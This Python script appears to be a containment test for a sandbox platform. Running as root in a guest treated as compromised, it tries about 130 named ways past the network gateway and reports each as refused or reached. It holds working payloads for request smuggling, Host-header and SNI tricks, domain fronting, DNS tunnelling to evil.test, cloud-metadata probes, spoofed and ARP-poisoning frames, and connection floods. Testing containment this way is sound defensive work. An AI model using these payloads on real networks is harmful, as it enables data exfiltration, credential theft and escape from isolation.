"""What a sandbox that was taken over tries, as root in it: prints each name and what came of it.

usage: escape.py PORTS NAME... ; PORTS are the platform's own, with commas between them
"""
import errno, os, select, socket, ssl, struct, sys, time

GATEWAY, OUTSIDE = "10.200.0.1", "203.0.113.7"
HOST_MAC, MY_MAC = bytes.fromhex("02fc00000001"), bytes.fromhex("02fc00000002")
PORTS = [int(p) for p in sys.argv[1].split(",")]
FIRST = b"GET /control HTTP/1.1\r\nHost: ok.test\r\n"
EVIL = b"GET /escape HTTP/1.1\r\nHost: evil.test\r\n\r\n"


def judge(got):
    """Whatever a server said is a way out; what the gateway says itself is a refusal."""
    head = got.split(b"\r\n\r\n")[0].decode("latin-1").lower()
    if not got:
        return "refused: nothing came"
    if "space-refused: " in head:
        return "refused: " + head.split("space-refused: ")[1].split("\r\n")[0].upper()
    return "REACHED: " + repr(got[:80])


def drain(s):
    got = b""
    try:
        while len(got) < 1 << 16 and (part := s.recv(4096)):
            got += part
    except OSError as e:
        if not got:
            return "refused: " + errno.errorcode.get(e.errno, str(e))
    return judge(got)


def tcp(host, port, data=b"", timeout=10):
    with socket.create_connection((host, port), timeout) as s:
        if data:
            s.sendall(data)
        return drain(s)


def raw(host, port):
    return lambda: tcp(host, port, b"GET /escape HTTP/1.1\r\nHost: ok.test\r\n\r\n")


def http(data, host="ok.test"):
    return lambda: tcp(host, 80, data)


def after_first(data):
    """The first request is an honest one; what follows it must not be read as another."""
    def attempt():
        with socket.create_connection(("ok.test", 80), 10) as s:
            s.sendall(data)
            got = b""
            try:
                while part := s.recv(4096):
                    got += part
            except OSError:
                pass
        return "REACHED: " + repr(got) if b"/escape" in got else "refused: " + repr(got[-60:])
    return attempt


def tls_bytes(data, port=443):
    return lambda: tcp("plain.test", port, data)


def extension(kind, body):
    return struct.pack("!HH", kind, len(body)) + body


def names(*all_of_them):
    listed = b"".join(b"\0" + struct.pack("!H", len(n)) + n for n in all_of_them)
    return extension(0, struct.pack("!H", len(listed)) + listed)


def hello(*extensions):
    body = b"\3\3" + bytes(32) + b"\0" + b"\0\2\x13\1" + b"\1\0"
    tail = b"".join(extensions)
    body += struct.pack("!H", len(tail)) + tail
    message = b"\1" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\3\1" + struct.pack("!H", len(message)) + message


def inside(data):
    """Over TLS that the gateway looks into."""
    def attempt():
        plain = socket.create_connection(("ok.test", 443), 20)
        with ssl.create_default_context().wrap_socket(plain, server_hostname="ok.test") as s:
            s.sendall(data)
            return drain(s)
    return attempt


def question(name, kind=1, group=1, count=1):
    labels = b"".join(bytes([len(n)]) + n for n in name.encode("latin-1").split(b"."))
    return struct.pack("!HHHHHH", 7, 0x100, count, 0, 0, 0) + (
        labels + b"\0" + struct.pack("!HH", kind, group)) * count


def dns(data, server=GATEWAY):
    def attempt():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(5)
            s.sendto(data, (server, 53))
            answer = s.recvfrom(4096)[0]
        code, count = answer[3] & 15, struct.unpack("!H", answer[6:8])[0]
        return f"refused: code {code}" if code and not count else f"REACHED: {code} {count}"
    return attempt


def dns_flood():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.5)
        for number in range(3000):
            s.sendto(question("n%d.evil.test" % number), (GATEWAY, 53))
        answers = 0
        try:
            while True:
                s.recv(512)
                answers += 1
        except OSError:
            return f"refused: {answers} of 3000 answered"


def udp(host, port, data=b"\xc0\0\0\0\1hello"):
    def attempt():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.settimeout(0.3)
            s.sendto(data, (host, port))
            return "REACHED: " + repr(s.recvfrom(100))
    return attempt


def redirect(place):
    """Follows where an allowed server sends it."""
    def attempt():
        with socket.create_connection(("ok.test", 80), 10) as s:
            s.sendall(b"GET /redirect?" + place + b" HTTP/1.1\r\nHost: ok.test\r\n"
                      b"Connection: close\r\n\r\n")
            got = b""
            while part := s.recv(4096):
                got += part
        to = got.lower().split(b"location: http://")[1].split(b"/")[0].decode()
        return tcp(to, 80, EVIL)
    return attempt


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(protocol, body, target=OUTSIDE, source="10.200.0.2", fragment=0, options=b""):
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45 + len(options) // 4, 0, 20 + len(options) + len(body), 7, fragment,
        64, protocol, 0, socket.inet_aton(source), socket.inet_aton(target)) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def udp_part(port, data=b"text"):
    return struct.pack("!HHHH", 40000, port, 8 + len(data), 0) + data


def syn(port, source="10.200.0.2", target=OUTSIDE):
    head = struct.pack("!HHIIBBHHH", 40000, port, 1, 0, 0x50, 2, 1024, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!HH", 6, len(head))
    return head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]


ECHO = struct.pack("!BBHHH", 8, 0, 0xF7FD, 1, 1)


def frame(packet, mac=MY_MAC, to=HOST_MAC, kind=0x0800):
    """Straight onto the wire; an answer would have to come by it too."""
    def attempt():
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as s:
            s.bind(("eth0", 0))
            s.send(to + mac + struct.pack("!H", kind) + packet)
            end = time.monotonic() + 0.3
            while (left := end - time.monotonic()) > 0:
                if select.select([s], [], [], left)[0]:
                    came, where = s.recvfrom(70000)
                    if where[2] != socket.PACKET_OUTGOING and came[12:14] == b"\x08\0":
                        return "REACHED: " + came.hex()
        return "refused: no answer"
    return attempt


def six(next_header, body, target="2606:4700::1111"):
    head = struct.pack("!IHBB", 0x60000000, len(body), next_header, 255)
    packet = head + socket.inet_pton(socket.AF_INET6, "fe80::2")
    return frame(packet + socket.inet_pton(socket.AF_INET6, target) + body, kind=0x86DD)


def arp(mac):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mac, socket.inet_aton("10.200.0.2"),
                       HOST_MAC, socket.inet_aton(GATEWAY))


def slow_thousand():
    """A thousand connections that say nothing: most are refused, the others are given up."""
    poll, held = select.poll(), {}
    address = socket.gethostbyname("ok.test")
    for _ in range(1000):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex((address, 80))
        held[s.fileno()] = s
        poll.register(s, select.POLLIN)
    end = time.monotonic() + 40
    while held and time.monotonic() < end:
        for fd, _ in poll.poll(1000):
            poll.unregister(fd)
            held.pop(fd).close()
    # What the packet filter dropped is still being tried by the guest's kernel: no connection.
    there = 0
    for s in held.values():
        try:
            s.getpeername()
            there += 1
        except OSError:
            pass
    return f"refused: {len(held)} without an answer" if not there else f"REACHED: {there} open"


def vsock():
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect((2, 1024))
        return "REACHED: connected"


def channel_port():
    """The daemon's private channel has one opener, also for root."""
    ports = [p for p in os.listdir("/dev") if p.startswith("vport")]
    for port in ports:
        os.close(os.open("/dev/" + port, os.O_RDWR | os.O_NONBLOCK))
        return "REACHED: " + port
    return "refused: no port"


ATTEMPTS = {
    # Other ports of host, node and gateway; other sandboxes; metadata; raw addresses.
    "host-ssh": raw(GATEWAY, 22),
    "host-http": raw(GATEWAY, 80),
    "gateway-listener": raw(GATEWAY, 15001),
    "gateway-dns-by-tcp": raw(GATEWAY, 53),
    "other-sandbox": raw("10.200.0.6", 22),
    "private-10": raw("10.0.0.1", 80),
    "private-172": raw("172.16.0.1", 443),
    "private-192": raw("192.168.1.1", 80),
    "carrier-nat": raw("100.64.0.1", 80),
    "metadata-link-local": raw("169.254.169.254", 80),
    "metadata-tasks": raw("169.254.170.2", 80),
    "metadata-alibaba": raw("100.100.100.200", 80),
    "metadata-oracle": raw("192.0.0.192", 80),
    "metadata-azure": raw("168.63.129.16", 80),
    "raw-ip-http": raw("93.184.216.34", 80),
    "raw-ip-https": raw("1.1.1.1", 443),
    "raw-ip-mail": raw("93.184.216.34", 25),
    "dns-over-tls": raw("9.9.9.9", 853),
    "dns-over-https-by-ip": raw("8.8.8.8", 443),
    "dns-over-tcp": raw("8.8.8.8", 53),
    "socks-by-ip": lambda: tcp("93.184.216.34", 1080, b"\5\1\0"),
    "synthetic-unknown": raw("198.18.99.99", 80),
    "other-port-ssh": raw("ok.test", 22),
    "other-port-http": raw("ok.test", 8081),
    "other-port-of-other": raw("other.test", 80),
    "rebinding": http(b"GET /escape HTTP/1.1\r\nHost: public.test\r\n\r\n", "public.test"),
    # Names.
    "dns-evil": dns(question("evil.test")),
    "dns-other-resolver": dns(question("evil.test"), "8.8.8.8"),
    "dns-tunnel": dns(question("mzxw6ytboi2dcmrtgq.pjuw63tfmq3dgnbv.t1.evil.test")),
    "dns-tunnel-below-allowed": dns(question("c2vjcmv0.ok.test")),
    "dns-tunnel-txt": dns(question("c2vjcmv0.evil.test", 16)),
    "dns-transfer": dns(question("evil.test", 252)),
    "dns-over-https-name": dns(question("dns.google")),
    "dns-metadata-name": dns(question("metadata.google.internal")),
    "dns-host-itself": dns(question("localhost")),
    "dns-reverse": dns(question("1.0.0.127.in-addr.arpa", 12)),
    "dns-two-questions": dns(question("ok.test", count=2)),
    "dns-version": dns(question("version.bind", 16, 3)),
    "dns-bad-label": dns(struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1"),
    "dns-flood": dns_flood,
    # HTTP on a host that is allowed.
    "host-other": http(EVIL),
    "host-missing": http(b"GET /escape HTTP/1.1\r\n\r\n"),
    "host-twice": http(b"GET /escape HTTP/1.1\r\nHost: ok.test\r\nHost: evil.test\r\n\r\n"),
    "host-with-user": http(b"GET /escape HTTP/1.1\r\nHost: ok.test@evil.test\r\n\r\n"),
    "host-list": http(b"GET /escape HTTP/1.1\r\nHost: ok.test, evil.test\r\n\r\n"),
    "host-address": http(b"GET /escape HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"),
    "host-empty": http(b"GET /escape HTTP/1.1\r\nHost:\r\n\r\n"),
    "host-longer": http(b"GET /escape HTTP/1.1\r\nHost: ok.test.evil.test\r\n\r\n"),
    "host-port": http(b"GET /escape HTTP/1.1\r\nHost: ok.test:8081\r\n\r\n"),
    "websocket-other-host": http(EVIL[:-2] + b"Connection: Upgrade\r\nUpgrade: websocket\r\n"
                                 b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AA==\r\n\r\n"),
    "absolute-target": http(b"GET http://evil.test/escape HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
    "connect": http(b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"),
    "connect-by-own-name": http(b"CONNECT ok.test:22 HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
    "smuggle-length-chunks": http(FIRST.replace(b"GET", b"POST") + b"Content-Length: 4\r\n"
                                  b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL),
    "smuggle-two-lengths": http(FIRST.replace(b"GET", b"POST") + b"Content-Length: 0\r\n"
                                b"Content-Length: 44\r\n\r\n" + EVIL),
    "smuggle-two-codings": http(FIRST.replace(b"GET", b"POST") + b"Transfer-Encoding: identity, "
                                b"chunked\r\n\r\n0\r\n\r\n" + EVIL),
    "smuggle-odd-coding": http(FIRST.replace(b"GET", b"POST") + b"Transfer-Encoding: xchunked\r\n"
                               b"\r\n0\r\n\r\n" + EVIL),
    "smuggle-space-in-name": http(FIRST.replace(b"GET", b"POST") + b"Transfer-Encoding : chunked"
                                  b"\r\n\r\n0\r\n\r\n" + EVIL),
    "smuggle-nul": http(b"GET /control HTTP/1.1\r\nHost: ok.test\r\nX: a\0b\r\n\r\n" + EVIL),
    "smuggle-second": after_first(FIRST + b"\r\n" + EVIL),
    "smuggle-bad-chunk": after_first(FIRST.replace(b"GET", b"POST") + b"Transfer-Encoding: chunked"
                                     b"\r\n\r\nzz\r\n" + EVIL),
    "smuggle-after-upgrade": after_first(FIRST + b"Connection: Upgrade\r\nUpgrade: websocket\r\n"
                                         b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AA==\r\n"
                                         b"\r\n" + EVIL),
    "http2-prior-knowledge": http(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    "http-0.9": http(b"GET /escape\r\n\r\n"),
    "oversized-head": http(FIRST + b"X: " + b"a" * 70000 + b"\r\n\r\n"),
    "redirect-to-name": redirect(b"evil.test"),
    "redirect-to-metadata": redirect(b"169.254.169.254"),
    # TLS.
    "sni-other": tls_bytes(hello(names(b"evil.test"))),
    "sni-below": tls_bytes(hello(names(b"x.plain.test"))),
    "sni-missing": tls_bytes(hello()),
    "sni-hidden": tls_bytes(hello(names(b"plain.test"), extension(0xFE0D, bytes(16)))),
    "sni-nul": tls_bytes(hello(names(b"plain.test\0.evil.test"))),
    "sni-twice": tls_bytes(hello(names(b"plain.test", b"evil.test"))),
    "http-on-443": tls_bytes(EVIL),
    "ssh-on-443": tls_bytes(b"SSH-2.0-OpenSSH_9.2\r\n"),
    "socks4-on-443": tls_bytes(b"\4\1\0\x16\x5d\xb8\xd8\x22\0"),
    "socks5-on-443": tls_bytes(b"\5\1\0"),
    "oversized-record": tls_bytes(b"\x16\3\1\xff\xff" + bytes(30000)),
    "old-tls": tls_bytes(b"\x80\x2e\1\0\2" + bytes(43)),
    "fronting": inside(b"GET /control HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    "fronting-twice": inside(b"GET /control HTTP/1.1\r\nHost: ok.test\r\nHost: evil.test\r\n\r\n"),
    "inside-method": inside(b"DELETE /control HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
    "inside-path": inside(b"GET /escape HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
    "inside-dots": inside(b"GET /control/../escape HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
    "inside-encoded": inside(b"GET /control/%2e%2e/escape HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
    "inside-connect": inside(b"CONNECT evil.test:443 HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
    "inside-smuggle": inside(FIRST + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
                             b"0\r\n\r\n" + EVIL),
    # What is not TCP and not DNS.
    "quic": udp(OUTSIDE, 443),
    "quic-to-allowed-name": lambda: udp(socket.gethostbyname("ok.test"), 443)(),
    "ntp": udp(OUTSIDE, 123),
    "dns-over-quic": udp("9.9.9.9", 853),
    "gateway-dns-port": udp(GATEWAY, 15053),
    "vpn": udp(OUTSIDE, 51820),
    "mdns": frame(ip(17, udp_part(5353), "224.0.0.251"), to=bytes.fromhex("01005e0000fb")),
    "ssdp": frame(ip(17, udp_part(1900), "239.255.255.250"), to=bytes.fromhex("01005e7ffffa")),
    "broadcast": frame(ip(17, udp_part(53), "255.255.255.255"), to=b"\xff" * 6),
    "igmp": frame(ip(2, bytes(8), "224.0.0.22"), to=bytes.fromhex("01005e000016")),
    "ping-gateway": frame(ip(1, ECHO, GATEWAY)),
    "ping-outside": frame(ip(1, ECHO)),
    "icmp-tunnel": frame(ip(1, ECHO + b"data" * 100)),
    "gre": frame(ip(47, bytes(8))),
    "esp": frame(ip(50, bytes(16))),
    "sctp": frame(ip(132, bytes(12))),
    "ip-in-ip": frame(ip(4, ip(6, syn(443)))),
    "first-fragment": frame(ip(17, udp_part(53), fragment=0x2000)),
    "later-fragment": frame(ip(6, syn(443)[8:], fragment=1)),
    "source-route": frame(ip(6, syn(443), options=b"\x83\x07\x04\x0a\0\0\1\0")),
    "spoofed-neighbour": frame(ip(6, syn(443, "10.200.0.6"), source="10.200.0.6")),
    "spoofed-loopback": frame(ip(17, udp_part(53), source="127.0.0.1")),
    "spoofed-gateway": frame(ip(6, syn(443, GATEWAY), source=GATEWAY)),
    "spoofed-mac": frame(ip(6, syn(443)), mac=bytes.fromhex("02fc00000003")),
    "arp-poison": frame(arp(bytes.fromhex("02fc00000009")), mac=bytes.fromhex("02fc00000009"),
                        kind=0x0806),
    "lldp": frame(bytes(60), kind=0x88CC),
    "ipv6-tcp": six(6, syn(443)),
    "ipv6-dns": six(17, udp_part(53), "fe80::1"),
    "ipv6-neighbours": six(58, ECHO, "ff02::1"),
    # By the thousand, and past the network.
    "slow-thousand": slow_thousand,
    "vsock": vsock,
    "channel-port": channel_port,
}
for place, number in enumerate(PORTS):
    ATTEMPTS["platform-port-%d" % place] = raw(GATEWAY, number)

for name in sys.argv[2:]:
    try:
        outcome = ATTEMPTS[name]()
    except OSError as e:
        outcome = "refused: " + (errno.errorcode.get(e.errno, str(e)) if e.errno else str(e))
    except Exception as e:
        outcome = "BROKEN: " + repr(e)
    print(name + "\t" + outcome.replace("\n", " "), flush=True)
